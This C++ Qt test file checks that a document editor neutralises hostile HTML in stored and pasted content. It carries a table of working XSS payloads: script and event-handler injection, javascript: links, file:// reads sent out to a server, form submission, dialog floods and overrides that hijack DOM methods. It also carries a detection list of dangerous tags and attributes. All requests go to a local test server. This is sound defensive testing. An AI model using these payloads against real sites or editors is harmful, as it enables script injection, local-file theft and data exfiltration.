// Hostile documents in the real editor on a real database: stored documents
// and pasted markup that try to run script, reach the network or local
// files, open dialogs or take over the editor's own scripts. A server on the
// loopback address records every connection made to it; it must record
// none, no marker file may show up, no dialog may open, and what is saved is
// the document as stored plus what the user typed.
//
// So that the table is known to hold real attacks, every case is also
// loaded into an open page (page script on, local files and the network
// both reachable, a file folder as its base), where it does reach the
// server, read a marker, ask for a dialog or change what the program reads.
#include "UnitTemp.h"
#include "dialogs.h"
#include "fbsql.h"
#include "editordriver.h"
#include "modalwatch.h"
#include "testdb.h"
#include "uHtmlEdit.h"

#include <QApplication>
#include <QClipboard>
#include <QDir>
#include <QFile>
#include <QLineEdit>
#include <QMimeData>
#include <QMutex>
#include <QPointer>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QToolButton>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineScript>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include <memory>

using namespace mvtest;

namespace {

// Every connection to it, with the first line it was sent (empty when it
// sent nothing, as a bare pre-connection does).
class RecordingServer : public QTcpServer
{
public:
    RecordingServer()
    {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *s = nextPendingConnection()) {
                const int index = int(m_seen.size());
                m_seen.append(QStringLiteral("(connection)"));
                // Answered at once, so that no request of an ordinary page
                // is left holding a connection.
                connect(s, &QTcpSocket::readyRead, s, [this, s, index] {
                    if (!s->canReadLine())
                        return;
                    m_seen[index] = QString::fromLatin1(s->readLine().trimmed());
                    s->write("HTTP/1.0 204 No Content\r\nConnection: close\r\n\r\n");
                    s->disconnectFromHost();
                });
                connect(s, &QTcpSocket::disconnected, s, &QObject::deleteLater);
            }
        });
    }
    QStringList seen() const { return m_seen; }
    void clear() { m_seen.clear(); }

private:
    QStringList m_seen;
};

// Closes, and notes, any modal window other than the editor and any other
// new top-level window while it is alive.
class DialogWatch
{
public:
    explicit DialogWatch(QWidget *allowed) : m_allowed(allowed)
    {
        for (QWidget *w : QApplication::topLevelWidgets())
            m_before.append(w);
        m_timer.setInterval(20);
        QObject::connect(&m_timer, &QTimer::timeout, [this] { look(); });
        m_timer.start();
    }
    QStringList seen()
    {
        look();
        return m_seen;
    }

private:
    void look()
    {
        for (QWidget *w : QApplication::topLevelWidgets()) {
            if (w == m_allowed || m_before.contains(w) || !w->isVisible())
                continue;
            m_seen.append(QString::fromLatin1(w->metaObject()->className()));
            w->close();
        }
    }
    QPointer<QWidget> m_allowed;
    QList<QPointer<QWidget>> m_before;
    QTimer m_timer;
    QStringList m_seen;
};

// An open page: page script on, local files and the network reachable,
// its document written in by page script. Dialogs, new windows, permission
// and print requests are counted, not shown.
class OpenPage : public QWebEnginePage
{
public:
    OpenPage()
    {
        settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls, true);
        settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls, true);
        connect(this, &QWebEnginePage::featurePermissionRequested, this, [this] { ++asked; });
        connect(this, &QWebEnginePage::printRequested, this, [this] { ++asked; });
    }
    int asked = 0;

protected:
    void javaScriptAlert(const QUrl &, const QString &) override { ++asked; }
    bool javaScriptConfirm(const QUrl &, const QString &) override { return ++asked, false; }
    bool javaScriptPrompt(const QUrl &, const QString &, const QString &, QString *) override { return ++asked, false; }
    QWebEnginePage *createWindow(WebWindowType) override { return ++asked, nullptr; }
    void javaScriptConsoleMessage(JavaScriptConsoleMessageLevel, const QString &, int, const QString &) override {}
};

QVariant runIn(QWebEnginePage *page, const QString &script, quint32 world)
{
    auto result = std::make_shared<std::pair<bool, QVariant>>();
    page->runJavaScript(script, world, [result](const QVariant &v) { *result = {true, v}; });
    for (int waited = 0; !result->first && waited < 10000; waited += 10)
        QTest::qWait(10);
    return result->second;
}

// What a user might click in a document: every link and button.
const QString ClickEverything = QStringLiteral(
    "document.querySelectorAll('a, button').forEach(function (e) { e.click(); }); 0");

const QString End = QStringLiteral("<p id=\"end\">end</p>");

// What the surface must not keep of pasted markup.
const QString Dangerous = QStringLiteral(R"(
var bad = [];
var tags = ['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form',
            'foreignobject', 'animate', 'set'];
document.body.querySelectorAll('*').forEach(function (e) {
    var n = e.localName.toLowerCase();
    if (tags.indexOf(n) >= 0)
        bad.push(n);
    Array.from(e.attributes).forEach(function (a) {
        var name = a.name.toLowerCase();
        var value = a.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (name.startsWith('on') || name === 'srcdoc' || name === 'srcset'
            || /^(javascript|vbscript|file|data):/.test(value) || /url\(/.test(value))
            bad.push(n + '@' + name);
    });
});
return bad.join(' ');
)");

} // namespace

class TestHostileDocuments : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void init();
    void cleanup();

    void cases_data();
    // Stored, opened, edited and saved in the editor: nothing happens.
    void openedEditedAndSaved_data() { cases_data(); }
    void openedEditedAndSaved();
    // Pasted into a new document: dropped, nothing happens.
    void pasted_data() { cases_data(); }
    void pasted();
    // The table holds real attacks: on an open page each one works.
    // Last, so that nothing it sets off can reach the cases above.
    void worksOnAnOpenPage_data() { cases_data(); }
    void worksOnAnOpenPage();

private:
    QString fill(QString markup) const;
    QString stored(const QString &markup) const { return QStringLiteral("<body>") + fill(markup) + End + QStringLiteral("</body>"); }

    RecordingServer server_;
    QTemporaryDir markers_;
    std::unique_ptr<TestDb> db_;
};

void TestHostileDocuments::initTestCase()
{
    mv::setApplicationTitle(QStringLiteral("Morvane资料系统V1.0"));
    QVERIFY(server_.listen(QHostAddress::LocalHost));
    QVERIFY(markers_.isValid());
}

void TestHostileDocuments::init()
{
    db_ = std::make_unique<TestDb>();
    mvlabDm = new TmvlabDm(db_->path());
    // Marker files: read by a page, each one calls the server.
    const QString page = fill(QStringLiteral("<html><body>MARKER<img src=\"{P}/marker-read\"></body></html>"));
    const QList<std::pair<QString, QByteArray>> files{
        {markers_.filePath(QStringLiteral("marker.html")), page.toUtf8()},
        {markers_.filePath(QStringLiteral("marker.txt")), QByteArrayLiteral("MARKER")},
        // Planted where a relative address of a stored document points.
        {QDir(db_->dir()).filePath(QStringLiteral("marker.html")), page.toUtf8()},
        {QDir(db_->dir()).filePath(QStringLiteral("images/marker.html")), page.toUtf8()},
    };
    QVERIFY(QDir().mkpath(QDir(db_->dir()).filePath(QStringLiteral("images"))));
    for (const auto &[path, content] : files) {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(content) == content.size());
    }
    server_.clear();
}

void TestHostileDocuments::cleanup()
{
    dropModalWatchers();
    delete mvlabDm;
    mvlabDm = nullptr;
    db_.reset();
}

QString TestHostileDocuments::fill(QString markup) const
{
    const QString port = QString::number(server_.serverPort());
    return markup.replace(QStringLiteral("{P}"), QStringLiteral("http://127.0.0.1:") + port)
        .replace(QStringLiteral("{WS}"), QStringLiteral("ws://127.0.0.1:") + port)
        .replace(QStringLiteral("{PORT}"), port)
        .replace(QStringLiteral("{M}"), markers_.path());
}

void TestHostileDocuments::cases_data()
{
    // {P}: the server's address; {M}: the folder of marker files. probe: what
    // an open page shows of the attack: a text in a request the server
    // gets, "asks" for a dialog, window, permission or print, "hijacks" for
    // a body read back changed.
    QTest::addColumn<QString>("markup");
    QTest::addColumn<QString>("probe");

    QTest::newRow("script element") << "<script>new Image().src = '{P}/script';</script>" << "/script";
    QTest::newRow("event attribute") << "<img src=\"missing.png\" onerror=\"new Image().src = '{P}/onerror'\">"
                                     << "/onerror";
    QTest::newRow("event on toggling")
        << "<details open=\"\" ontoggle=\"new Image().src = '{P}/ontoggle'\"><summary>s</summary>d</details>"
        << "/ontoggle";
    QTest::newRow("javascript link") << "<a href=\"javascript:new Image().src = '{P}/jslink'; void 0\">link</a>"
                                     << "/jslink";
    QTest::newRow("link with ping") << "<a href=\"{P}/followed\" ping=\"{P}/ping\">link</a>" << "/followed";
    QTest::newRow("file frame") << "<iframe src=\"file://{M}/marker.html\"></iframe>" << "/marker-read";
    QTest::newRow("file request")
        << "<script>var x = new XMLHttpRequest(); x.open('GET', 'file://{M}/marker.txt', false); x.send();"
           " new Image().src = '{P}/xhr?' + x.responseText;</script>"
        << "/xhr?MARKER";
    QTest::newRow("relative frame") << "<iframe src=\"marker.html\"></iframe><iframe src=\"images/marker.html\"></iframe>"
                                    << "/marker-read";
    QTest::newRow("frame of source") << "<iframe srcdoc=\"<img src='{P}/srcdoc.png'>\"></iframe>" << "/srcdoc.png";
    QTest::newRow("WebSocket") << "<script>new WebSocket('{WS}/socket');</script>" << "/socket";
    QTest::newRow("fetch") << "<script>fetch('{P}/fetch');</script>" << "/fetch";
    QTest::newRow("image beacon") << "<img src=\"{P}/beacon.png\">" << "/beacon.png";
    QTest::newRow("image set") << "<img srcset=\"{P}/srcset.png 2x\">" << "/srcset.png";
    QTest::newRow("style import") << "<style>@import url(\"{P}/import.css\");</style>" << "/import.css";
    QTest::newRow("style url") << "<div style=\"background-image: url('{P}/background.png');\">styled</div>"
                               << "/background.png";
    QTest::newRow("style sheet") << "<link rel=\"stylesheet\" href=\"{P}/sheet.css\">" << "/sheet.css";
    QTest::newRow("font") << "<style>@font-face { font-family: far; src: url(\"{P}/font.woff\"); }"
                             " #end { font-family: far; }</style>"
                          << "/font.woff";
    QTest::newRow("prefetch and preconnect")
        << "<link rel=\"prefetch\" href=\"{P}/prefetch\"><link rel=\"preconnect\" href=\"{P}\">"
           "<link rel=\"dns-prefetch\" href=\"{P}\">"
        << "/prefetch";
    QTest::newRow("base address") << "<base href=\"{P}/\"><img src=\"based.png\">" << "/based.png";
    QTest::newRow("content policy of its own")
        << "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src *\"><img src=\"{P}/afterpolicy.png\">"
        << "/afterpolicy.png";
    QTest::newRow("meta refresh") << "<meta http-equiv=\"refresh\" content=\"0; url={P}/refresh\">" << "/refresh";
    QTest::newRow("form") << "<form action=\"{P}/form\" method=\"get\"><input name=\"q\" value=\"secret\">"
                             "<button>go</button></form>"
                          << "/form?q=secret";
    QTest::newRow("object and embed") << "<object data=\"{P}/object\"></object><embed src=\"{P}/embed\">"
                                      << "/object";
    QTest::newRow("media") << "<video src=\"{P}/video.mp4\" autoplay=\"\"></video>" << "/video.mp4";
    QTest::newRow("SVG with script") << "<svg><script>new Image().src = '{P}/svg';</script></svg>" << "/svg";
    QTest::newRow("SVG picture") << "<svg><image href=\"{P}/svgimage.png\"></image></svg>" << "/svgimage.png";
    QTest::newRow("dialog loop")
        << "<script>for (var i = 0; i < 50; ++i) { alert('trapped'); confirm('trapped'); prompt('trapped'); }"
           " print();</script>"
        << "asks";
    QTest::newRow("window and permissions")
        << "<script>window.open('{P}/popup'); navigator.geolocation.getCurrentPosition(function () {});</script>"
        << "asks";
    QTest::newRow("redefined DOM methods")
        << "<script>Object.defineProperty(Element.prototype, 'outerHTML', {get: function () {"
           " return '<body>HIJACKED</body>'; }});"
           " Object.defineProperty(HTMLElement.prototype, 'innerText', {get: function () { return 'HIJACKED'; }});"
           " Document.prototype.execCommand = function () { return false; };"
           " DOMParser.prototype.parseFromString = function () { throw new Error('HIJACKED'); };"
           " window.getSelection = function () { return null; };</script>"
        << "hijacks";
}

void TestHostileDocuments::worksOnAnOpenPage()
{
    QFETCH(QString, markup);
    QFETCH(QString, probe);
    const QString body = stored(markup);

    // Shown, since some of what a page loads it loads only to paint it.
    QWebEngineView view;
    OpenPage page;
    view.setPage(&page);
    view.resize(600, 400);
    view.show();
    bool loaded = false;
    connect(&page, &QWebEnginePage::loadFinished, this, [&] { loaded = true; });
    page.setHtml(QStringLiteral("<html><head></head><body></body></html>"),
                 QUrl::fromLocalFile(db_->dir() + QLatin1Char('/')));
    QTRY_VERIFY_WITH_TIMEOUT(loaded, 10000);
    runIn(&page, QStringLiteral("document.write(%1); document.close(); 0").arg(THtmlDocument::quote(body)),
          QWebEngineScript::MainWorld);
    runIn(&page, ClickEverything, QWebEngineScript::MainWorld);

    if (probe == QLatin1String("asks")) {
        QTRY_VERIFY_WITH_TIMEOUT(page.asked > 0, 10000);
    } else if (probe == QLatin1String("hijacks")) {
        QVERIFY(runIn(&page, QStringLiteral("document.body.outerHTML"), QWebEngineScript::MainWorld)
                    .toString()
                    .contains(QStringLiteral("HIJACKED")));
    } else {
        QTRY_VERIFY2_WITH_TIMEOUT(server_.seen().filter(probe).size() > 0, qPrintable(server_.seen().join(' ')), 10000);
    }
}

void TestHostileDocuments::openedEditedAndSaved()
{
    QFETCH(QString, markup);
    const QString body = stored(markup);
    mvlabDm->runUnit([&] {
        mv::db::Query q(mvlabDm->IBDatabaseMV);
        q.setSql(QStringLiteral("insert into documents(id,title,typeid,content) values(5,'hostile',1,:content)"));
        q.setParam(QStringLiteral("content"), body);
        q.execute();
    });
    QCOMPARE(db_->rows("select content from documents where id=5"), QStringList{body});

    mv::DialogRecorder boxes;
    TfmTemp ed(nullptr, QStringLiteral("5-Edit-none"));
    DialogWatch dialogs(&ed);
    ed.show();
    QVERIFY(QTest::qWaitForWindowExposed(&ed));
    // Shown as stored, with what a reader might click clicked.
    QCOMPARE(ed.HtmlEdit1->HTML(), body);
    js(ed, ClickEverything);
    QTest::qWait(500);
    QCOMPARE(ed.HtmlEdit1->HTML(), body);

    // Typed at the end of the last paragraph.
    ed.sbEdit->click();
    ed.HtmlEdit1->SetFocus();
    QTRY_VERIFY_WITH_TIMEOUT(js(ed, QStringLiteral("return document.hasFocus();")).toBool(), 10000);
    js(ed, QStringLiteral("var t = document.getElementById('end').firstChild;"
                          "getSelection().collapse(t, t.length);"));
    QTest::keyClicks(ed.HtmlEdit1->focusProxy(), QStringLiteral("typed"));
    QTRY_VERIFY2_WITH_TIMEOUT(ed.HtmlEdit1->Text().contains(QStringLiteral("endtyped")), qPrintable(ed.HtmlEdit1->HTML()),
                              10000);
    ed.sbSave->click();

    QCOMPARE(boxes.lines(), QStringList{Changed});
    QString expected = body;
    expected.replace(End, QStringLiteral("<p id=\"end\">endtyped</p>"));
    QCOMPARE(db_->rows("select content from documents where id=5"), QStringList{expected});
    QTest::qWait(300);
    QCOMPARE(server_.seen(), QStringList());
    QCOMPARE(dialogs.seen(), QStringList());
}

void TestHostileDocuments::pasted()
{
    QFETCH(QString, markup);

    mv::DialogRecorder boxes;
    TfmTemp ed(nullptr, QStringLiteral("3-Add-Books"));
    DialogWatch dialogs(&ed);
    ed.show();
    QVERIFY(QTest::qWaitForWindowExposed(&ed));
    ed.Edit1->setText(QStringLiteral("pasted"));
    typeBody(ed, End);
    ed.HtmlEdit1->SetFocus();
    QTRY_VERIFY_WITH_TIMEOUT(js(ed, QStringLiteral("return document.hasFocus();")).toBool(), 10000);
    js(ed, QStringLiteral("var t = document.getElementById('end').firstChild;"
                          "getSelection().collapse(t, t.length);"));

    auto *data = new QMimeData;
    data->setHtml(QStringLiteral("<b>kept</b>") + fill(markup));
    data->setText(QStringLiteral("plain"));
    QGuiApplication::clipboard()->setMimeData(data);
    ed.ToolButtons[5]->click(); // paste
    QTRY_VERIFY2_WITH_TIMEOUT(ed.HtmlEdit1->HTML().contains(QStringLiteral("<b>kept</b>")),
                              qPrintable(ed.HtmlEdit1->HTML()), 10000);
    js(ed, ClickEverything);
    QTest::qWait(500);

    QCOMPARE(js(ed, Dangerous).toString(), QString());
    ed.sbSave->click();
    QCOMPARE(boxes.lines(), QStringList{Added});
    const QString saved = db_->rows("select content from documents where id=1").value(0);
    QVERIFY2(saved.contains(QStringLiteral("<b>kept</b>")) && saved.contains(QStringLiteral("end")), qPrintable(saved));
    QVERIFY2(!saved.contains(QStringLiteral("script"), Qt::CaseInsensitive)
                 && !saved.contains(QStringLiteral("javascript:"), Qt::CaseInsensitive),
             qPrintable(saved));
    QCOMPARE(server_.seen(), QStringList());
    QCOMPARE(dialogs.seen(), QStringList());
}

QTEST_MAIN(TestHostileDocuments)
#include "tst_hostiledocuments.moc"
